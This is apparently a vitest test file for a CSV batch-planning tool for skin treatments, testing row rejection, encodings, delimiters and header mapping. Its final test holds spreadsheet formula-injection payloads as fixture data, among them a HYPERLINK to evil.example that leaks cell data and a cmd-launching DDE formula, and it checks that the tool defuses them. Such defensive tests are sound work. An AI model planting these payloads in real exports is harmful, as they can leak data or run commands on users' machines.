// Real-export shapes, one fixture each: how many rows are planned and rejected, and the
// exact physical line of every rejected row (header, blank lines and quoted line breaks
// all count).
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeEach, describe, expect, it, vi } from 'vitest';
import iconv from 'iconv-lite';
import { batch, fixture, records, rejectedLines, summary } from '../helpers/batch.js';
import { TODAY } from '../helpers/builders.js';

const out = mkdtempSync(join(tmpdir(), 'needleplan-batch-'));
afterAll(() => rmSync(out, { recursive: true, force: true }));

beforeEach(() => {
  vi.stubEnv('NEEDLEPLAN_TODAY', TODAY);
  vi.stubEnv('NEEDLEPLAN_RULES', '');
});

interface Expected {
  planned: number;
  rejectedLines: number[];
  /** Source line of each planned row, in order. */
  plannedLines?: number[];
}

/** Runs a fixture and checks counts, rejected lines (stderr and rejects file alike) and the summary. */
async function expectBatch(name: string, expected: Expected, options: Parameters<typeof batch>[1] = {}) {
  const rejectsFile = join(out, `rejects-${name}.csv`);
  const run = await batch(fixture(name), { ...options, rejects: rejectsFile });
  const plans = records(run.stdout);
  const rejects = records(readFileSync(rejectsFile, 'utf8'), options.delimiter === 'tab' ? '\t' : detectDelimiter(name));
  expect(run.rejected).toBe(expected.rejectedLines.length);
  expect(plans).toHaveLength(expected.planned);
  expect(rejects.map((r) => Number(r.line))).toEqual(expected.rejectedLines);
  expect(rejectedLines(run.stderr)).toEqual(expected.rejectedLines);
  expect(summary(run.stderr)).toEqual({
    read: expected.planned + expected.rejectedLines.length,
    planned: expected.planned,
    rejected: expected.rejectedLines.length,
  });
  if (expected.plannedLines) expect(plans.map((p) => Number(p.line))).toEqual(expected.plannedLines);
  return { run, plans, rejects };
}

const detectDelimiter = (name: string) => (name.includes('semicolon') || name.includes('1252') ? ';' : name.endsWith('.tsv') ? '\t' : ',');
const byClient = (plans: Record<string, string>[]) => Object.fromEntries(plans.map((p) => [p.client, p]));

describe('batch on real-export shapes', () => {
  it('plans the shared sample: 10 planned, rejected at line 12 (stretch marks on cheeks) and 13 ("wrinkles")', async () => {
    const { plans, rejects } = await expectBatch('sample-clients.csv', { planned: 10, rejectedLines: [12, 13] });
    const plan = byClient(plans);
    expect(plan['C-1010']!.status).toBe('unscreened');
    expect(plan['C-1009']!.status).toBe('not-eligible');
    expect([plan['C-1006']!.status, plan['C-1008']!.status]).toEqual(['needs-clearance', 'needs-clearance']);
    expect(rejects[0]!.client).toBe('C-1011');
    expect(rejects[0]!.error).toBe('zones: stretch-marks does not apply to cheeks; it applies to decollete, abdomen, thighs, buttocks, arms');
    // "wrinkles" could be fine lines or deep wrinkles: the rules do not guess.
    expect(rejects[1]!.client).toBe('C-1012');
    expect(rejects[1]!.error).toMatch(/^concerns: unknown concern "wrinkles" \(did you mean fine-lines or deep-wrinkles\?\)/);
  });

  it('reads a BOM, CRLF and semicolons, with comma-separated lists', async () => {
    const { plans, rejects } = await expectBatch('bom-crlf-semicolon.csv', { planned: 5, rejectedLines: [5, 7], plannedLines: [2, 3, 4, 6, 8] });
    const plan = byClient(plans);
    expect(Object.keys(plan)[0]).toBe('S-01'); // the BOM did not stick to the "Client" header
    expect(plan['S-01']!.concerns).toBe('acne-scars=moderate|texture=moderate');
    expect(plan['S-02']!.findings.split('|')).toEqual(expect.arrayContaining(['blood-thinners', 'other-medication']));
    expect(plan['S-03']!.first_session).toBe('2027-01-09'); // 2027/1/9 written back as ISO
    expect(plan['S-05']!.status).toBe('unscreened');
    expect(rejects.map((r) => r.error)).toEqual(['Fitzpatrick: Fitzpatrick type "VII" is not I-VI (or 1-6)', 'Start: "2027-02-30" is not a real date']);
  });

  it('reads tab-separated values', async () => {
    const { plans } = await expectBatch('tab-separated.tsv', { planned: 4, rejectedLines: [5, 7] });
    expect(byClient(plans)['T-01']!.depth_mm).toMatch(/^cheeks:[\d.]+\|chin-jaw:[\d.]+$/);
  });

  it('keeps quoted delimiters, doubled quotes and line breaks inside cells, and counts those lines', async () => {
    const { plans, rejects } = await expectBatch('quoted.csv', { planned: 4, rejectedLines: [8, 9], plannedLines: [2, 3, 5, 12] });
    expect(plans.map((p) => p.client)).toEqual(['Smith, Jane', 'Jane "JJ" Doe', 'O"Brien', 'Diaz; Eva']);
    expect(byClient(plans)['Smith, Jane']!.concerns).toBe('acne-scars=moderate|texture=moderate');
    // The rejected row that spans lines 9-11 comes back whole, line breaks and all.
    expect(rejects[1]!.client).toBe('Park,\nMin');
    expect(rejects[1]!.notes).toBe('two\nlines');
  });

  it('skips blank lines and empty rows, but rejects a line with anything in it', async () => {
    const { rejects } = await expectBatch('blank-lines.csv', { planned: 3, rejectedLines: [9, 13], plannedLines: [4, 6, 12] });
    expect(rejects[1]!.error).toContain('no concern given');
  });

  it('ignores unknown and trailing empty columns; rejects a row with more filled cells than the header', async () => {
    const { rejects } = await expectBatch('extra-columns.csv', { planned: 4, rejectedLines: [4, 6] });
    expect(rejects[0]!.error).toBe('column 12: the row has 12 cells but the header has 11 (an unquoted delimiter inside a value?)');
  });

  it('matches header aliases; Client ID beats Client Name, Date of Birth is not an age', async () => {
    const { run, rejects } = await expectBatch('aliases.csv', { planned: 3, rejectedLines: [4] });
    expect(run.stderr).toContain('note: column "Client Name" ignored: "Client ID" is used for client');
    expect(rejects[0]!.error).toMatch(/^Device: unknown device "derma-roller"/);
    const json = (await batch(fixture('aliases.csv'), { format: 'ndjson' })).stdout.trim().split('\n').map((l) => JSON.parse(l));
    expect(json.map((p) => [p.client, p.age, p.fitzpatrick, p.painTolerance])).toEqual([
      ['A-01', 36, 'III', 'low'],
      ['A-02', 41, 'II', 'normal'],
      ['A-04', 56, 'III', 'normal'],
    ]);
  });

  it('maps other headers with --map, and fails at once without them', async () => {
    await expect(batch(fixture('map.csv'))).rejects.toThrow(/the header has no column for concerns, zones\nfound: "Ref", "Name", "Problem"/);
    const maps = ['Ref=client', 'Problem=concerns', 'where=Zones', 'Grade=severity', 'Photo type=fitzpatrick', 'Done screening=screened', 'Booked for=start'];
    const { plans, rejects } = await expectBatch('map.csv', { planned: 2, rejectedLines: [4, 5] }, { map: maps });
    expect(plans.map((p) => p.client)).toEqual(['M-01', 'M-02']);
    expect(rejects.map((r) => r.error!.split(':')[0])).toEqual(['Where', 'Done screening']);
  });

  it('matches labels and ids whatever their case and spacing', async () => {
    const { plans } = await expectBatch('mixed-case.csv', { planned: 4, rejectedLines: [6] });
    const plan = byClient(plans);
    expect(plan['L-01']!.concerns).toBe('acne-scars=moderate');
    expect(plan['L-02']!.depth_mm).toMatch(/^hands:[\d.]+\|neck:[\d.]+$/);
    expect(plan['L-03']!.depth_mm).toMatch(/^periorbital:[\d.]+\|perioral:[\d.]+$/);
    expect(plan['L-04']!.concerns).toBe('stretch-marks=severe');
  });

  it('reads a windows-1252 export with --encoding, and refuses it as UTF-8 with a hint', async () => {
    const bytes = readFileSync(fixture('windows-1252.csv'));
    expect(bytes.includes(Buffer.from('Zoë', 'utf8'))).toBe(false); // really not UTF-8
    expect(iconv.decode(bytes, 'windows-1252')).toContain('Françoise Œuvray');
    const { plans, rejects } = await expectBatch('windows-1252.csv', { planned: 3, rejectedLines: [4] }, { encoding: 'windows-1252' });
    expect(plans.map((p) => p.client)).toEqual(['Zoë Müller', 'Françoise Œuvray', 'Søren Åberg']);
    expect(rejects[0]!.Client).toBe('José Núñez');
    await expect(batch(fixture('windows-1252.csv'))).rejects.toThrow(/not UTF-8 text \(an invalid byte on line 2\).*--encoding windows-1252/);
  });

  it('makes formula-like cells inert in the plans and in the rejects', async () => {
    const { plans, rejects } = await expectBatch('hostile.csv', { planned: 6, rejectedLines: [7, 8] });
    expect(plans.map((p) => p.client)).toEqual([
      `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
      "'+SUM(1+1)",
      "'-2+3",
      "'@cmd",
      "'\uff1d1+1",
      'CR',
    ]);
    expect(Object.keys(rejects[0]!)).toContain("'=HEADER()");
    expect(rejects.map((r) => [r.client, r.concerns, r.age, r["'=HEADER()"]])).toEqual([
      ["'=1+2", "'=cmd|'/C calc'!A0", '30', "'@x"],
      ['Plain Name', 'texture', "'-1", "'\tTAB"],
    ]);
    // Nothing a spreadsheet would run is left in any cell of either file.
    for (const row of [...plans, ...rejects]) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/);
  });
});
